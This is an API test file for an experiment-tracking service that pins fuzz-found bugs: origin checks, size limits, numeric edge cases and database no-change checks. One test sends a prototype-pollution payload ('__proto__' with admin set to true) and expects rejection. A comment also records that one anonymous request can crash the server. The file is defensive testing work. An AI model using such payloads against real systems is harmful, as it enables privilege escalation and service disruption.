    for (const origin of ['not a url', '://x', 'http://']) {
      const mark = await world.watcher.mark()
      const res = await world.ctx.request(
        admin(),
        'POST',
        `/api/workspaces/${world.ws.slug}/segments`,
        { name: 'From nowhere' },
        { origin },
      )
      await expectRefusal(res, 403)
      expect(await world.watcher.since(mark)).toEqual([])
    }
  })

  it('survives a tiny first information fraction on the public sequential calculator', () => {
    // In a child process: today the request aborts the whole process (one anonymous POST takes the server down).
    for (const fractions of ['[0.001, 1]', '[1e-300]']) {
      const child = spawnSync(
        process.execPath,
        [
          '--import',
          'tsx',
          join(import.meta.dirname, 'probes/sequential.ts'),
          `{"informationFractions": ${fractions}}`,
        ],
        {
          encoding: 'utf8',
          timeout: 60_000,
          env: { ...process.env, NODE_OPTIONS: '--max-old-space-size=512' },
        },
      )
      expect(child.status, `${fractions}: ${child.signal ?? ''} ${child.stderr.slice(0, 300)}`).toBe(0)
      const reply = JSON.parse(child.stdout.trim().split('\n').pop()!) as { status: number; ms: number }
      expect([200, 400], fractions).toContain(reply.status)
      expect(reply.ms).toBeLessThan(5_000)
    }
  }, 130_000)

  it('answers an empty PATCH of a touchpoint without a 500', async () => {
    const id = await world.realId('touchpoints')
    const res = await world.ctx.request(
      admin(),
      'PATCH',
      `/api/workspaces/${world.ws.slug}/touchpoints/${id}`,
      {},
    )
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    expect(res.body.id).toBe(id)
  })

  it('answers the export of an unknown test with a 404, not a 200 whose body breaks off', async () => {
    for (const what of ['deals', 'assignments']) {
      const res = await world.ctx.app.request(`/api/workspaces/${world.ws.slug}/tests/999999/${what}`, {
        headers: { cookie: `cxw_session=${world.ws.members.admin.cookie}` },
      })
      const text = await res.text().catch((err: Error) => `<body failed: ${err.message}>`)
      expect(`${res.status} ${text}`).toMatch(/^404 \{"error":\{"code":"not_found"/)
    }
  })
})

describe('wrong successes the fuzz found, pinned', () => {
  const sampleSize = (body: object) => world.ctx.request({}, 'POST', '/api/calculators/sample-size', body)

  it('refuses an effect too small for a countable sample with 400 at the field, not a 500', async () => {
    for (const minimumDetectableEffect of [1e-34, 1e-20, 1e-9]) {
      const res = await sampleSize({ baselineRate: 0.5, minimumDetectableEffect })
      expect(res.status, `${minimumDetectableEffect}: ${JSON.stringify(res.body)}`).toBe(400)
      expect(errorShapeProblem(res.status, res.headers, res.body)).toBeNull()
      expect(res.body.error.details).toEqual([
        { path: 'body.minimumDetectableEffect', message: expect.stringMatching(/too small/) },
      ])
    }
    // Small, and still a number of deals: answered.
    const small = await sampleSize({ baselineRate: 0.5, minimumDetectableEffect: 1e-6 })
    expect(small.status).toBe(200)
    expect(Number.isSafeInteger(small.body.total)).toBe(true)
  })

  it('refuses a deal whose only unknown field is "__proto__", like any unknown field', async () => {
    const testId = await world.bound.make.running()
    const mark = await world.watcher.mark()
    const res = await world.ctx.request(
      { cookie: world.ws.members.admin.cookie },
      'POST',
      `/api/workspaces/${world.ws.slug}/tests/${testId}/deals`,
      `{"externalId":"proto-1","customerKey":"c-1","closedAt":"${world.ctx.now().toISOString()}","converted":true,"__proto__":{"admin":true}}`,
    )
    expect(res.status, JSON.stringify(res.body)).toBe(422)
    expect(res.body.error.details).toEqual([
      expect.objectContaining({ row: 1, field: '__proto__', code: 'unknown_field' }),
    ])
    expect(await world.watcher.since(mark)).toEqual([])
  })
})

describe('plans the fuzz found a 500 for, pinned', () => {
  it('refuses a split whose computed target no test may hold with 422 naming plan.targetDeals', async () => {
    // 1 − 1.7e-142 is 1 in a double: the treatment would be everyone and no sample enough.
    for (const controlShare of [1.7e-142, 1e-17, 1e-12, 1 - 1e-9]) {
      const hypothesisId = (await world.ws.hypothesis()).id
      const mark = await world.watcher.mark()
      const res = await world.ws.call('analyst', 'POST', '/tests', {
        hypothesisId,
        name: 'Lopsided',
        plan: { controlShare },
      })
      expect(res.status, `${controlShare}: ${JSON.stringify(res.body)}`).toBe(422)
      expect(errorShapeProblem(res.status, res.headers, res.body)).toBeNull()
      expect(res.body.error).toMatchObject({
        code: 'pipeline_rule',
        details: [{ path: 'body.plan.targetDeals', message: expect.any(String) }],
      })
      expect(await world.watcher.since(mark)).toEqual([])
      const given = await world.ws.call('analyst', 'POST', '/tests', {
        hypothesisId,
        name: 'Lopsided, with its target',
        plan: { controlShare, targetDeals: 100 },
      })
      expect(given.status, JSON.stringify(given.body)).toBe(201)
    }
    const even = await world.ws.call('analyst', 'POST', '/tests', {
      hypothesisId: (await world.ws.hypothesis()).id,
      name: 'Even',
      plan: { controlShare: 0.5 },
    })
    expect(even.status).toBe(201)
    expect(even.body.plan.targetDeals).toBeGreaterThan(2)
  })

  it("names a database constraint in a refusal's details only when the database names it", () => {
    const check = (err: object) => apiErrorFromDatabase({ code: '23514', ...err })?.details
    expect(check({ constraint_name: 'tests_target_deals_check' })).toEqual([
      { path: 'tests_target_deals_check', message: 'constraint' },
    ])
    expect(check({ constraint_name: undefined, constraint: 'tests_target_deals_check' })).toEqual([
      { path: 'tests_target_deals_check', message: 'constraint' },
    ])
    expect(check({ constraint_name: undefined })).toEqual([])
    expect(check({})).toEqual([])
  })
})

describe('size limits', () => {
  it('answers every JSON route with 413 in the documented shape for a body over 10 MB, and writes nothing', async () => {
    const huge = JSON.stringify({ name: 'x', description: 'y'.repeat(JSON_BODY_LIMIT + 1024) })
    const before = await world.counts()
    const mark = await world.watcher.mark()
    const jsonOps = ops.operations.filter((op) => op.bodyType === 'json')
    for (const op of jsonOps) {
      const path = op.path.replace('{workspace}', world.ws.slug).replace(/\{(id|userId)\}/, '1')
      const res = await world.ctx.request({ cookie: world.ws.members.admin.cookie }, op.method, path, huge)
      expect(res.status, `${op.method} ${op.path}`).toBe(413)
      expect(errorShapeProblem(res.status, res.headers, res.body)).toBeNull()
      expect(res.body.error.code).toBe('payload_too_large')
    }
    expect(changedTables(before, await world.counts())).toEqual([])
    expect(await world.watcher.since(mark)).toEqual([])
  })

  it('takes a CSV over the JSON limit on a CSV route (its limit is larger)', async () => {
    // A test of its own: the fuzz may have paused or completed the shared one, which takes no list.
    const testId = await world.bound.make.running()
    // A stray quote on line 2 stops the parser there, so the test does not pay for parsing 10 MB.
    const csv = `customerKey\n"c-1"x\n${'row-value\n'.repeat(Math.ceil((JSON_BODY_LIMIT + 1024) / 10))}`
    const before = await world.counts()
    const mark = await world.watcher.mark()
    const res = await world.ctx.request(
      { cookie: world.ws.members.admin.cookie },
      'POST',
      `/api/workspaces/${world.ws.slug}/tests/${testId}/assignments/csv`,
      csv,
      { 'content-type': 'text/csv' },
    )
    expect(res.status, JSON.stringify(res.body)).toBe(400)
    expect(res.body.error.details[0].path).toBe('line 2')
    expect(changedTables(before, await world.counts())).toEqual([])
    expect(await world.watcher.since(mark)).toEqual([])
  })
})

describe('the check that a refusal changed nothing', () => {
  it('sees an insert, an in-place update and a delete, and not a refused request', async () => {
    const admin = { cookie: world.ws.members.admin.cookie }
    const base = `/api/workspaces/${world.ws.slug}`
    let mark = await world.watcher.mark()
    const created = await world.ctx.request(admin, 'POST', `${base}/segments`, { name: 'Watched' })
    expect(created.status).toBe(201)
    expect(await world.watcher.since(mark)).toEqual(['audit_log:INSERT', 'segments:INSERT'])
    mark = await world.watcher.mark()
    await world.ctx.db
      .updateTable('segments')
      .set({ description: 'changed in place' })
      .where('id', '=', created.body.id)
      .execute()
    expect(await world.watcher.since(mark)).toEqual(['segments:UPDATE'])
    mark = await world.watcher.mark()
    const counts = await world.counts()
    const refused = await world.ctx.request(admin, 'PATCH', `${base}/segments/${created.body.id}`, {
      name: '',
    })
    expect(refused.status).toBe(400)
    expect(await world.watcher.mark()).toBe(mark)
    expect(await world.counts()).toEqual(counts)
    await world.ctx.db.deleteFrom('segments').where('id', '=', created.body.id).execute()
    expect(await world.watcher.since(mark)).toEqual(['segments:DELETE'])
    expect(changedTables(counts, await world.counts())).toEqual(['segments'])
  })
})
